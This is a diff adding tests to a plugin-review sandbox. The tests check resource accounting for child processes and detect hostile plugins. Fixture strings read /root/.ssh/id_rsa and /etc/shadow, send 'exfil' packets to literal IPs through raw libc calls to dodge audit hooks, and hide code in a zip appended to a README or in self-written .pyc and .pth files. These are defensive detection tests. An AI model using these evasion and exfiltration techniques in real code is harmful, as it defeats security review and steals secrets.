@@ -27,7 +27,7 @@ from reviews.sandbox import runner
 from reviews.sandbox.runner import SandboxError, isolation_available
 from reviews.sandbox.tracer import tracer_available
 from submissions.samples import PLUGIN_SOURCE
-from tests.reviews.test_sandbox import TEST_LIMITS, manifest
+from tests.reviews.test_sandbox import TEST_LIMITS, manifest, sandbox_uid
 
 needs_bwrap = pytest.mark.skipif(not isolation_available(), reason="bubblewrap (bwrap) is not installed")
 MARKER = "HOSTILE-CODE-RAN"
@@ -533,7 +533,10 @@ UNISOLATED = "import os\nprint(os.getuid(), dict(os.environ))\n" + HONEST
 
 def test_allowed_without_isolation_it_runs_with_an_empty_environment_and_says_so(tmp_path, unisolated, monkeypatch):
     monkeypatch.setenv("WARDEN_HOSTILE_SECRET", "s3cret")
-    monkeypatch.setattr(runner, "_user", lambda: {})  # a developer's laptop: the worker is not root
+    # a worker that can drop to a sandbox user (here this test's own, whose Python stays readable);
+    # one that cannot runs nothing (test_without_isolation_a_worker_that_is_not_root_runs_no_plugin_code)
+    monkeypatch.setattr(runner, "_user", lambda: {"uid": os.getuid(), "gid": os.getgid()})
+    monkeypatch.setattr(runner, "_reachable", lambda path: True)
 
     outcome = behave(plugin(tmp_path, {"probe.py": UNISOLATED}))
 
@@ -556,5 +559,450 @@ def test_allowed_without_isolation_a_root_worker_runs_plugin_code_as_the_sandbox
 
     outcome = behave(root)
 
-    assert printed(outcome).startswith(f"{settings.WARDEN_SANDBOX_UID} ")
+    assert sandbox_uid(int(printed(outcome).split()[0]))
     assert by_rule(outcome, "behaviour.unisolated").severity == "high"
+
+
+# After review (issue 12): CPU and memory cannot be hidden in the process tree, honest subprocesses
+# are not forgeries, and no isolation never means the worker's own user.
+
+
+def startup(root: Path) -> runner.SandboxRun:
+    from reviews.sandbox.environment import plugin_environment
+
+    environment = plugin_environment(requirements=[])
+    return runner.sandbox_run(mode="startup", plugin_root=root, environment=environment, entrypoint="probe:Plugin")
+
+
+# A child that touches ``MB`` megabytes and burns ``CPU`` seconds of CPU time.
+CHILD_WORK = (
+    "x = bytearray({mb} * 1024 * 1024); x[::4096] = b'1' * len(x[::4096])\\n"
+    "import time\\nt = time.process_time()\\nwhile time.process_time() - t < {cpu}: pass\\n"
+)
+OTHER_THREAD = f"""
+import os, subprocess, sys, threading, time
+ready = threading.Event()
+def spawn():
+    child = subprocess.Popen([sys.executable, "-c", "{CHILD_WORK.format(mb=150, cpu=0.5)}import os; os.write(1, b'done'); time.sleep(30)"], stdout=subprocess.PIPE)
+    child.stdout.read(4)
+    ready.set()
+    time.sleep(60)  # the thread that started the child stays alive, and so does the child
+threading.Thread(target=spawn, daemon=True).start()
+ready.wait()
+class Plugin:
+    pass
+"""  # noqa: E501
+
+
+@needs_bwrap
+def test_cpu_and_memory_of_a_child_started_from_another_thread_are_measured(tmp_path):
+    run = startup(plugin(tmp_path, {"probe.py": OTHER_THREAD}))
+
+    assert run.result is not None
+    assert run.cpu_ms >= 450  # the child's 0.5 s (it was 36 ms: only the main thread's children were read)
+    assert run.peak_rss_kb >= 150 * 1024 + run.harness_rss_kb * 0.9  # summed over the processes
+
+
+EARLY_EXIT = f"""
+import os, subprocess, sys, threading, time
+done = threading.Event()
+def spawn():
+    zombie = subprocess.Popen([sys.executable, "-c", "{CHILD_WORK.format(mb=120, cpu=0.3)}time.sleep(0.3)"])
+    while open(f"/proc/{{zombie.pid}}/stat").read().rsplit(")", 1)[1].split()[0] != "Z":
+        time.sleep(0.01)  # exited, and never waited for
+    done.set()
+    time.sleep(60)
+threading.Thread(target=spawn, daemon=True).start()
+read, write = os.pipe()
+middle = os.fork()
+if middle == 0:  # a double fork: the grandchild is orphaned, then reaped by the sandbox's init
+    if os.fork() == 0:
+        os.close(read)
+        t = time.process_time()
+        while time.process_time() - t < 0.3:
+            pass
+        os._exit(0)
+    os._exit(0)
+os.close(write)
+os.waitpid(middle, 0)
+os.read(read, 1)  # end of file: the grandchild has exited
+done.wait()
+class Plugin:
+    pass
+"""
+
+
+@needs_bwrap
+def test_children_that_exit_before_the_end_record_zombie_or_orphan_are_still_counted(tmp_path):
+    run = startup(plugin(tmp_path, {"probe.py": EARLY_EXIT}))
+
+    assert run.result is not None and not run.forged
+    assert run.cpu_ms >= 550  # 0.3 s in the zombie, 0.3 s in the orphan
+    assert run.peak_rss_kb >= 120 * 1024  # sampled while the zombie-to-be was alive: its memory is gone now
+
+
+HONEST_SUBPROCESS = """
+import subprocess, sys
+BURN = "import time\\nt = time.process_time()\\nwhile time.process_time() - t < 0.3: pass"
+subprocess.run([sys.executable, "-c", BURN], check=True)
+class Plugin:
+    pass
+"""
+
+
+@needs_bwrap
+def test_an_honest_plugin_running_a_subprocess_at_import_is_not_a_forged_measurement(tmp_path):
+    run = startup(plugin(tmp_path, {"probe.py": HONEST_SUBPROCESS}))
+
+    assert run.forged == []  # was: "CPU time reported 43.5 ms, measured by the kernel 335.5 ms"
+    assert run.cpu_ms >= 300 and run.harness_reaped_cpu_ms >= 280  # the child's time, in the KPI
+    assert run.result["children_cpu_ms"] >= 280
+
+
+UNDER_REPORTED_CHILDREN = HONEST_SUBPROCESS.replace(
+    "class Plugin:",
+    "import __main__\nreal = __main__.usage\n"
+    "__main__.usage = lambda: {**real(), 'children_cpu_ms': 0.0}  # SELF true, CHILDREN hidden\nclass Plugin:",
+)
+
+
+@needs_bwrap
+def test_under_reporting_the_subprocesses_cpu_time_is_still_a_forged_measurement(tmp_path):
+    run = startup(plugin(tmp_path, {"probe.py": UNDER_REPORTED_CHILDREN}))
+
+    assert run.forged and run.forged[0].startswith("CPU time of finished subprocesses reported 0.0 ms, measured")
+    assert run.cpu_ms >= 300  # the KPI is the kernel's either way
+
+
+def test_without_isolation_a_worker_that_is_not_root_runs_no_plugin_code(tmp_path, unisolated, monkeypatch):
+    monkeypatch.setattr(runner, "_user", lambda: {})  # a developer's laptop: the worker is not root
+    ran = tmp_path / "ran"
+    root = plugin(tmp_path, {"probe.py": f"open({str(ran)!r}, 'w').close()\n" + HONEST})
+
+    with pytest.raises(SandboxError, match=r"not root and cannot become that user: plugin code was not run"):
+        behave(root)
+
+    assert not ran.exists()
+
+
+# Issue 12 after review: code no scanner read, a hook silenced through its own state, and
+# traffic explained away by a look-up.
+
+APPENDED_ZIP = "zhidden"
+
+
+def _readme_with_a_zip() -> bytes:
+    import io
+
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as handle:
+        handle.writestr(f"{APPENDED_ZIP}.py", f"print('{MARKER}', flush=True)\n")
+    return b"# Probe plugin\n\n" + b"Some documentation words here. " * 10 + b"\n" + archive.getvalue()
+
+
+UNREAD_LOADERS = {
+    "txt-source-loader": (
+        {"notes.txt": f"print('{MARKER}', flush=True)\n"},
+        "import importlib.machinery, os\n"
+        "importlib.machinery.SourceFileLoader('notes', os.path.join(os.path.dirname(__file__), 'notes.txt'))"
+        ".load_module()\n",
+        "code object from /sandbox/plugin/notes.txt",
+    ),
+    "zip-appended-to-readme": (
+        {"README.md": _readme_with_a_zip()},
+        "import os, zipimport\n"
+        f"zipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'README.md')).load_module('{APPENDED_ZIP}')\n",
+        "code object from /sandbox/plugin/README.md/zhidden.py",
+    ),
+    "timeit-string": ({}, f"import timeit\ntimeit.timeit(\"print('{MARKER}', flush=True)\", number=1)\n", MARKER),
+}
+
+
+@needs_bwrap
+@pytest.mark.parametrize("case", list(UNREAD_LOADERS), ids=list(UNREAD_LOADERS))
+def test_code_the_standard_library_compiles_from_a_file_no_scanner_read_is_dynamic_code(tmp_path, case):
+    files, source, named = UNREAD_LOADERS[case]
+
+    outcome = behave(plugin(tmp_path, {**files, "probe.py": source + HONEST}))
+
+    assert MARKER in printed(outcome)  # it ran: what counts is that it is on record
+    dynamic = [f for f in outcome.findings if f.rule_id == "behaviour.dynamic-code" and named in f.title]
+    assert dynamic, [(f.rule_id, f.title) for f in outcome.findings]
+    assert blocks_the_gate(dynamic[0]) and not outcome.passed
+
+
+def test_a_zip_appended_to_a_documentation_file_is_refused_by_eligibility(tmp_path):
+    root = plugin(tmp_path, {"probe.py": HONEST, "README.md": _readme_with_a_zip()})
+
+    refused = by_rule(eligibility(root), "eligibility.nested-archive")
+
+    assert refused.data["files"] == ["README.md"] and refused.severity == "critical"
+    assert not eligibility(root).passed
+
+
+GENERATED_BY_THE_STANDARD_LIBRARY = """
+import ast, collections, dataclasses, typing
+
+Point = collections.namedtuple("Point", ["x", "y"])
+
+
+class Pair(typing.NamedTuple):
+    left: int
+    right: int
+
+
+@dataclasses.dataclass(frozen=True)
+class Settings:
+    name: str = "acme"
+    retries: int = 3
+
+
+tree = ast.parse("1 + 2")  # parsed, never run
+
+
+class Plugin:
+    def __init__(self):
+        self.settings = Settings()
+        self.origin = Point(0, 0)
+"""
+
+
+@needs_tracer
+def test_code_the_standard_library_generates_from_validated_names_is_not_dynamic_code(tmp_path):
+    outcome = behave(plugin(tmp_path, {"probe.py": GENERATED_BY_THE_STANDARD_LIBRARY}))
+
+    assert list(outcome.findings) == [], [(f.rule_id, f.title) for f in outcome.findings]
+    assert outcome.passed
+
+
+HOOK_STATE_REWRITTEN = """
+import gc, os, socket
+for o in gc.get_objects():
+    if type(o).__name__ == "Behaviour":
+        o.plugin_root = "/nowhere/"
+for p in ("/root/.ssh/id_rsa", "/etc/shadow"):
+    try:
+        open(p).read()
+    except OSError:
+        pass
+env = dict(os.environ)
+s = socket.socket()
+try:
+    s.connect(("10.9.9.9", 443))
+except OSError:
+    pass
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    u.sendto(b"exfil", ("1.2.3.4", 53))
+except OSError:
+    pass
+"""
+
+
+@needs_tracer
+def test_a_plugin_that_rewrites_the_hooks_plugin_root_is_caught_by_the_self_check_and_the_tracer(tmp_path):
+    outcome = behave(plugin(tmp_path, {"probe.py": HOOK_STATE_REWRITTEN + HONEST}), permissions=_network())
+
+    evaded = {f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"}
+    assert "Capture evaded: the plugin changed the audit hook's own state (plugin_root)" in evaded, evaded
+    assert any(t.startswith("Capture evaded: the audit hook did not report its self-check") for t in evaded)
+    assert {
+        "Capture evaded: openat /root/.ssh/id_rsa (failed), a read the audit hook did not report",
+        "Capture evaded: openat /etc/shadow (failed), a read the audit hook did not report",
+        "Capture evaded: connect 10.9.9.9:443 (failed), network traffic the audit hook did not report",
+        "Capture evaded: sendto 1.2.3.4:53 (failed), network traffic the audit hook did not report",
+    } <= evaded
+    assert not outcome.passed
+
+
+@needs_bwrap
+def test_without_the_tracer_a_rewritten_plugin_root_is_still_capture_evaded(tmp_path, monkeypatch):
+    monkeypatch.setattr(runner.tracer, "tracer_available", lambda: False)
+
+    outcome = behave(plugin(tmp_path, {"probe.py": HOOK_STATE_REWRITTEN + HONEST}))
+
+    evaded = [f for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]
+    assert "Capture evaded: the plugin changed the audit hook's own state (plugin_root)" in {f.title for f in evaded}
+    assert blocks_the_gate(evaded[0]) and not outcome.passed and outcome.summary["tracer"] == "none"
+
+
+def _network() -> dict:
+    permissions = manifest()["permissions"]
+    return {**permissions, "network": ["api.example:443"]}
+
+
+BELOW_PYTHON_AFTER_A_LOOKUP = """
+import ctypes, socket, struct
+try:
+    socket.getaddrinfo("api.example", 443)  # reported, and declared
+except OSError:
+    pass
+libc = ctypes.CDLL(None, use_errno=True)
+def address(ip, port):  # struct sockaddr_in
+    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(ip) + bytes(8)
+tcp = socket.socket()
+libc.connect(tcp.fileno(), address("10.9.9.9", 443), 16)  # no audit event: below Python
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+libc.sendto(udp.fileno(), b"exfil", 5, 0, address("1.2.3.4", 53), 16)
+"""
+
+
+@needs_tracer
+def test_an_ip_literal_on_a_looked_up_port_or_on_port_53_is_not_explained_by_the_lookup(tmp_path):
+    outcome = behave(plugin(tmp_path, {"probe.py": BELOW_PYTHON_AFTER_A_LOOKUP + HONEST}), permissions=_network())
+
+    evaded = {f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"}
+    assert {
+        "Capture evaded: connect 10.9.9.9:443 (failed), network traffic the audit hook did not report",
+        "Capture evaded: sendto 1.2.3.4:53 (failed), network traffic the audit hook did not report",
+    } <= evaded, evaded
+    assert not outcome.passed
+
+
+def test_reconciliation_requires_the_exact_address_the_hook_reported(tmp_path):
+    from reviews.sandbox.tracer import CANARY, Effect, Trace, reconcile
+
+    trace = Trace(started=True, harness_pid=2)
+    trace.effects = [
+        Effect("network", 2, "connect", "10.9.9.9:443", True),  # after a look-up of api.example:443
+        Effect("network", 2, "sendto", "1.2.3.4:53", True),  # port 53, a network declared
+        Effect("network", 2, "sendto", "127.0.0.1:53", True),  # glibc's fallback resolver, after a look-up
+        Effect("network", 2, "connect", "10.0.0.7:443", True),  # the address the hook reported
+        Effect("canary", 2, "openat", CANARY + "abc"),
+    ]
+    reported = [
+        {"type": "event", "kind": "network", "target": "api.example:443", "operation": "lookup"},
+        {"type": "event", "kind": "network", "target": "10.0.0.7:443", "operation": "connect"},
+        {"type": "canary", "nonce": "abc"},
+    ]
+
+    unexplained = reconcile(trace, reported, declared=lambda kind, target: target == "api.example:443", canary="abc")
+
+    assert unexplained == [
+        "connect 10.9.9.9:443 (failed), network traffic the audit hook did not report",
+        "sendto 1.2.3.4:53 (failed), network traffic the audit hook did not report",
+    ]
+
+
+@needs_bwrap
+def test_a_code_object_the_plugin_rewrites_is_dynamic_code(tmp_path):
+    source = (
+        "def run():\n    print('relabelled')\n"
+        "run.__code__ = run.__code__.replace(co_filename='/usr/lib/python3.11/json/decoder.py')\nrun()\n"
+    )
+
+    outcome = behave(plugin(tmp_path, {"probe.py": source + HONEST}))
+
+    rewritten = by_rule(outcome, "behaviour.dynamic-code")
+    assert rewritten.title == "Ran dynamic code (code.__new__): code object run of /usr/lib/python3.11/json/decoder.py"
+    assert blocks_the_gate(rewritten) and not outcome.passed
+
+
+def _environment_with_a_pth(tmp_path: Path) -> Path:
+    import venv
+
+    environment = tmp_path / "env"
+    venv.EnvBuilder(symlinks=True, with_pip=False).create(environment)
+    site_packages = next(environment.glob("lib/python*/site-packages"))
+    (site_packages / "dependency.pth").write_text("import sys; sys.dependency_pth_ran = True\n")
+    return environment
+
+
+@needs_bwrap
+def test_a_dependencys_pth_import_line_is_not_dynamic_code_but_one_the_plugin_writes_is(tmp_path, monkeypatch):
+    environment = _environment_with_a_pth(tmp_path)
+    monkeypatch.setattr("reviews.checks.behaviour.plugin_environment", lambda **kwargs: environment)
+    honest = "import sys\nassert sys.dependency_pth_ran\n" + HONEST
+    hostile = (
+        "import site\nopen('/tmp/evil.pth', 'w').write('import os; os.getpid()\\n')\nsite.addsitedir('/tmp')\n" + HONEST
+    )
+
+    assert list(behave(plugin(tmp_path / "honest", {"probe.py": honest})).findings) == []
+    outcome = behave(plugin(tmp_path / "hostile", {"probe.py": hostile}))
+
+    dynamic = by_rule(outcome, "behaviour.dynamic-code")
+    assert "import os; os.getpid()" in dynamic.title and not outcome.passed
+
+
+@needs_bwrap
+def test_the_performance_check_counts_an_honest_subprocess_and_raises_no_forged_finding(tmp_path, settings, db):
+    HostPlatform.objects.create(name="Host", api_version="2.4", is_default=True, resource_limits={})
+    settings.WARDEN_PERFORMANCE = {"startup_runs": 1, "warmup_calls": 0, "rounds": 1, "calls_per_round": 10}
+    data = manifest()
+    data["plugin"]["category"] = "data-connector"
+
+    outcome = performance_harness(
+        CheckContext(version_id=0, plugin_id=0, manifest=data, root=plugin(tmp_path, {"probe.py": HONEST_SUBPROCESS}))
+    )
+
+    assert "performance.forged-measurement" not in {f.rule_id for f in outcome.findings}
+    shown = {m["kpi"]: m["value"] for m in outcome.metrics}
+    assert shown["cpu_ms"] >= 300  # the subprocess's time is the plugin's cost
+
+
+@needs_bwrap
+def test_bytecode_the_plugin_writes_and_loads_itself_is_dynamic_code(tmp_path):
+    bytecode = compiled(tmp_path, f"print('{MARKER}', flush=True)\n", as_name="/sandbox/plugin/probe.py")
+    source = (
+        "import importlib.machinery\n"
+        f"open('/tmp/hidden.pyc', 'wb').write({bytecode!r})\n"
+        "importlib.machinery.SourcelessFileLoader('hidden', '/tmp/hidden.pyc').load_module()\n"
+    )
+
+    outcome = behave(plugin(tmp_path, {"probe.py": source + HONEST}))
+
+    assert MARKER in printed(outcome)
+    loaded = by_rule(outcome, "behaviour.dynamic-code")
+    assert loaded.title == "Ran dynamic code (marshal): marshal.loads" and not outcome.passed
+
+
+GENCODE = '''def make(name):
+    """Like attrs: a method compiled from source the library generates."""
+    namespace = {}
+    exec(compile(f"def {name}(self):\\n    return 1\\n", f"<gencode {name}>", "exec"), namespace)
+    return namespace[name]
+'''
+
+
+def wheel_of(directory: Path, name: str, version: str, module: str) -> Path:
+    """A minimal pure-Python wheel, hashes and all, for a wheelhouse the sandbox installs from."""
+    import base64
+    import hashlib
+    import zipfile
+
+    dist = f"{name}-{version}.dist-info"
+    files = {
+        f"{name}.py": module,
+        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
+        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: warden-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    record = []
+    for path, text in files.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
+        record.append(f"{path},sha256={digest},{len(text.encode())}")
+    files[f"{dist}/RECORD"] = "\n".join([*record, f"{dist}/RECORD,,"]) + "\n"
+    target = directory / f"{name}-{version}-py3-none-any.whl"
+    with zipfile.ZipFile(target, "w") as archive:
+        for path, text in files.items():
+            archive.writestr(path, text)
+    return target
+
+
+@needs_bwrap
+def test_code_a_dependency_generates_is_a_medium_finding_not_the_plugins_dynamic_code(tmp_path, settings):
+    """attrs and pydantic compile the methods they generate: reviewers see it, the gate does not
+    block on it, and the same compile called by the plugin's own code stays high."""
+    wheelhouse = tmp_path / "wheels"
+    wheelhouse.mkdir()
+    wheel_of(wheelhouse, "gencode", "1.0", GENCODE)
+    settings.WARDEN_SANDBOX_WHEELHOUSE = str(wheelhouse)
+    honest = plugin(
+        tmp_path / "honest", {"probe.py": "import gencode\nclass Plugin:\n    value = gencode.make('value')\n"}
+    )
+    outcome = behave(honest, dependencies={"requirements": ["gencode==1.0"]})
+    rules = {f.rule_id: f.severity for f in outcome.findings}
+    assert rules == {"behaviour.dependency-generated-code": "medium"}, outcome.findings
+    assert not any(blocks_the_gate(f) for f in outcome.findings)
+
+    own = plugin(tmp_path / "own", {"probe.py": "exec(compile('x = 1', '<mine>', 'exec'))\nclass Plugin:\n    pass\n"})
+    assert by_rule(behave(own), "behaviour.dynamic-code").severity == "high"
